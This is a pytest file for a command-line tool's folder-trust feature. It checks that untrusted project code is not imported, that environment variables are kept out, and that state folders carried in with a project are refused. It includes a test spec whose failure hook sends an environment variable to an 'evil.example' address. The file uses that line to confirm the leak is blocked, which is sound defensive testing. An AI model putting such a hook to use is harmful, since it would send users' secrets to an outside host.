"""`pipe trust`, and what the verbs do in a folder that is not trusted."""

from __future__ import annotations

import subprocess
import textwrap
from pathlib import Path

import pytest

from swath.engine.journal import Journal
from tests.cli.conftest import Pipe

WORDS = [
    ("list",), ("list", "--json"), ("show", "predict"), ("show", "squares"), ("show", "squares.yaml"), ("check", "squares.yaml"),
    ("plan", "squares.yaml"), ("run", "squares.yaml"), ("run", "squares.yaml", "--explain"), ("run", "squares.yaml", "--detach"),
    ("schema",), ("schema", "squares"), ("doctor",), ("doctor", "squares.yaml"), ("runs",), ("resume", "last"), ("logs", "last"),
    ("sweep",), ("prune",), ("trust", "--list"),
]  # fmt: skip


@pytest.fixture
def env(env: dict[str, str], tmp_path: Path) -> dict[str, str]:
    """Without SWATH_TRUST, and with an empty configuration."""
    return {k: v for k, v in env.items() if k != "SWATH_TRUST"} | {"XDG_CONFIG_HOME": str(tmp_path / "config")}


@pytest.fixture
def marker(project: Path) -> Path:
    """A file that the project's code makes when it is imported."""
    file = project.parent / "code-ran"
    for name in ("hostile.py", "_hidden.py", "predict.py", "__init__.py"):
        (project / "pipelines" / name).write_text(f"open({str(file)!r}, 'w')\n")
    (project / "helper.py").write_text(f"open({str(file)!r}, 'w')\n")
    return file


@pytest.mark.parametrize("words", WORDS, ids=" ".join)
def test_no_verb_imports_code_of_a_folder_that_is_not_trusted(
    pipe: Pipe, marker: Path, project: Path, words: tuple[str, ...]
) -> None:
    done = pipe(*words)
    assert not marker.exists()
    assert "Traceback" not in done.stderr
    if any("squares" in word for word in words):
        assert done.returncode == 2
        assert f"pipe trust {project}" in done.stderr


def test_list_shows_other_pipelines_and_says_which_are_not_loaded(pipe: Pipe, project: Path) -> None:
    done = pipe("list")
    assert done.returncode == 0
    assert "predict" in done.stdout
    assert "squares" not in done.stdout
    assert done.stderr == f"pipelines of {project} are not loaded: the folder is not trusted (pipe trust {project})\n"


def test_trust_makes_a_project_run_until_it_is_removed(pipe: Pipe, project: Path) -> None:
    assert pipe("run", "squares.yaml").returncode == 2
    assert pipe("trust", "pipelines").stdout == f"{project}\n"
    assert pipe("trust", "--list").stdout == f"{project}\n"
    done = pipe("run", "squares.yaml")
    assert done.returncode == 0, done.stderr
    assert pipe("trust", "--remove").returncode == 0
    assert pipe("trust", "--list").stdout == ""
    assert pipe("run", "squares.yaml").returncode == 2
    assert pipe("trust", "--remove").returncode == 2


def test_the_variable_trusts_a_project(pipe: Pipe, project: Path) -> None:
    assert pipe("check", "squares.yaml", SWATH_TRUST=f"/elsewhere:{project}").returncode == 0
    assert pipe("check", "squares.yaml", SWATH_TRUST="1").returncode == 0
    assert pipe("check", "squares.yaml", SWATH_TRUST="/elsewhere").returncode == 2


def test_init_trusts_what_it_writes(pipe: Pipe, project: Path) -> None:
    assert pipe("init", "mine", cwd=project.parent).returncode == 0
    assert pipe("check", "specs/hello.yaml", cwd=project.parent / "mine").returncode == 0


def test_folders_of_pipelines_outside_of_a_trusted_project_are_loaded_and_of_an_untrusted_one_are_not(
    pipe: Pipe, project: Path
) -> None:
    (project / "pipelines").rename(project.parent / "shared")
    (project / "swath.yaml").write_text("pipelines: [../shared]\n")
    pipe("trust", str(project.parent / "shared"))
    assert "squares" not in pipe("list").stdout
    pipe("trust")
    assert "squares" in pipe("list").stdout


def test_a_project_inside_a_trusted_one_is_not_trusted(pipe: Pipe, project: Path, marker: Path) -> None:
    pipe("trust")
    inner = project / "vendor"
    (inner / "pipelines").mkdir(parents=True)
    (inner / "swath.yaml").write_text("")
    (project / "pipelines" / "hostile.py").rename(inner / "pipelines" / "inner.py")
    assert "not trusted" in pipe("list", cwd=inner).stderr
    assert not marker.exists()


def test_a_pipeline_that_may_override_a_stock_one_is_refused_instead_of_the_stock_one(
    pipe: Pipe, project: Path
) -> None:
    (project / "pipelines" / "own.py").write_text("@pipeline\ndef change(spec): ...\n")
    done = pipe("show", "change")
    assert done.returncode == 2
    assert "the pipeline 'change' may be one of" in done.stderr


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        ("cluster: tcp://192.0.2.1:8786", "cluster: a cluster of kind address is connected to or started"),
        ("model: {path: w.safetensors, factory: 'helper:make'}", "model.factory: helper:make is Python code"),
        ("model: {path: w.pth, factory: 'helper:make', trust: true}", "model.trust: a checkpoint is trusted"),
        ("name: '${env:CANARY}'", "the environment variable CANARY may not be read"),
    ],
)
def test_a_spec_of_stock_pipelines_names_no_code_no_scheduler_and_no_variable(
    pipe: Pipe, project: Path, marker: Path, lines: str, message: str
) -> None:
    (project / "pipelines" / "predict.py").unlink()
    (project / "w.safetensors").write_text("")
    (project / "w.pth").write_text("")
    (project / "i.tif").write_text("")
    base = "pipeline: predict\nimagery: {source: files, paths: [i.tif]}\noutput: out\n"
    base += "" if "model:" in lines else "model: w.safetensors\n"
    (project / "s.yaml").write_text(base + lines + "\n")
    done = pipe("check", "s.yaml", CANARY="canary-value")
    assert done.returncode == 2
    assert message in done.stderr
    assert f"is not trusted (pipe trust {project}" in done.stderr
    assert "canary-value" not in done.stderr + done.stdout
    assert not marker.exists()


def test_allow_env_allows_one_variable(pipe: Pipe, project: Path) -> None:
    (project / "w.onnx").write_text("")
    (project / "i.tif").write_text("")
    (project / "s.yaml").write_text(
        textwrap.dedent("""\
            pipeline: predict
            imagery: {source: files, paths: [i.tif]}
            output: out
            model: w.onnx
            name: "${env:ONE}-${env:TWO}"
            """)
    )
    done = pipe("check", "s.yaml", "--allow-env", "ONE", ONE="a", TWO="b")
    assert "variable TWO may not be read" in done.stderr
    assert "variable ONE" not in done.stderr
    assert (
        "may not be read"
        not in pipe("check", "s.yaml", "--allow-env", "ONE", "--allow-env", "TWO", ONE="a", TWO="b").stderr
    )


def test_env_of_swath_yaml_lists_what_specs_of_a_trusted_project_may_read(pipe: Pipe, project: Path) -> None:
    (project / "swath.yaml").write_text('env: [ONE]\nnotify: {on_failure: ["${env:HOOK}"]}\n')
    (project / "squares.yaml").write_text('pipeline: squares\ncluster: inline\nname: "${env:ONE}-${env:TWO}"\n')
    pipe("trust")
    done = pipe("check", "squares.yaml", ONE="a", TWO="b", HOOK="https://h.example/x")
    assert done.returncode == 2
    assert "variable TWO may not be read: swath.yaml lists the names in `env`, without this one" in done.stderr
    (project / "squares.yaml").write_text('pipeline: squares\ncluster: inline\nname: "${env:ONE}"\n')
    assert pipe("check", "squares.yaml", ONE="a", HOOK="https://h.example/x").returncode == 0


def test_a_variable_goes_to_no_host_that_is_not_listed(pipe: Pipe, project: Path) -> None:
    text = 'pipeline: squares\ncluster: inline\nname: x\nnotify: {on_failure: ["https://evil.example/?k=${env:ONE}"]}\n'
    (project / "squares.yaml").write_text(text)
    untrusted = pipe("check", "squares.yaml", "--allow-env", "ONE", ONE="a")
    assert "ONE may not be a part of an address of evil.example" in untrusted.stderr
    allowed = pipe("check", "squares.yaml", "--allow-env", "ONE@evil.example", ONE="a")
    assert "may not be a part" not in allowed.stderr
    (project / "swath.yaml").write_text("env_hosts: [hooks.example.org]\n")
    pipe("trust")
    done = pipe("check", "squares.yaml", ONE="a")
    assert done.returncode == 2
    assert "swath.yaml lists the hosts in `env_hosts`, without this one" in done.stderr
    (project / "squares.yaml").write_text(text.replace("evil.example", "hooks.example.org"))
    assert pipe("check", "squares.yaml", ONE="a").returncode == 0


def test_a_commit_is_trusted_as_its_project(pipe: Pipe, project: Path, marker: Path) -> None:
    for words in (["init", "-q"], ["add", "."], ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"]):
        subprocess.run(["git", *words], cwd=project, check=True)
    done = pipe("run", "--ref", "HEAD", "squares.yaml")
    assert done.returncode == 2
    assert f"pipe trust {project}" in done.stderr
    assert not marker.exists()


@pytest.mark.parametrize(
    "words", [("resume", "last"), ("runs",), ("logs", "last"), ("plan", "squares.yaml"), ("prune",)], ids=" ".join
)
@pytest.mark.parametrize(
    "brought",
    [("journal.sqlite", "results.key"), ("journal.sqlite",), ("results.key",), ("journal.sqlite-wal",)],
    ids=" ".join,
)
def test_a_state_folder_that_came_with_an_untrusted_folder_is_not_opened(
    pipe: Pipe, project: Path, words: tuple[str, ...], brought: tuple[str, ...]
) -> None:
    (project / ".swath").mkdir()
    for name in brought:
        (project / ".swath" / name).write_bytes(bytes(32))
    done = pipe(*words, SWATH_HOME="")
    assert done.returncode == 2
    assert f"the state folder {project / '.swath'} was not created by this user's swath" in done.stderr
    assert f"pipe trust {project}" in done.stderr


def test_a_state_folder_of_an_earlier_version_is_opened_once_its_folder_is_trusted(
    pipe: Pipe, project: Path, env: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """It has no owner and no key."""
    monkeypatch.setenv("XDG_CONFIG_HOME", env["XDG_CONFIG_HOME"])
    state = project / ".swath"
    with Journal.open(state):
        pass
    (state / "owner").unlink()
    assert pipe("runs", SWATH_HOME="").returncode == 2
    assert pipe("trust").returncode == 0
    assert pipe("runs", SWATH_HOME="").returncode == 0


@pytest.mark.parametrize("name", ["runs", "results", "errors.log"])
def test_a_state_folder_with_links_that_came_with_an_untrusted_folder_is_not_used(
    pipe: Pipe, project: Path, tmp_path: Path, name: str
) -> None:
    (project / ".swath").mkdir()
    (project / ".swath" / name).symlink_to(tmp_path)
    done = pipe("plan", "squares.yaml", SWATH_HOME="")
    assert done.returncode == 2
    assert "was not created by this user's swath" in done.stderr


def test_an_untrusted_swath_yaml_names_no_state_folder_elsewhere(pipe: Pipe, project: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (project / "swath.yaml").write_text(f"state: {elsewhere}\n")
    for words in (("plan", "squares.yaml"), ("runs",), ("run", "squares.yaml")):
        done = pipe(*words, SWATH_HOME="")
        assert done.returncode == 2
        assert f"names the state folder {elsewhere}, which is not in {project}" in done.stderr
    assert not elsewhere.exists()


def test_the_own_state_folder_of_an_untrusted_folder_is_used_again(
    pipe: Pipe, project: Path, env: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", env["XDG_CONFIG_HOME"])
    with Journal.open(project / ".swath"):
        pass
    assert pipe("runs", SWATH_HOME="").returncode == 0
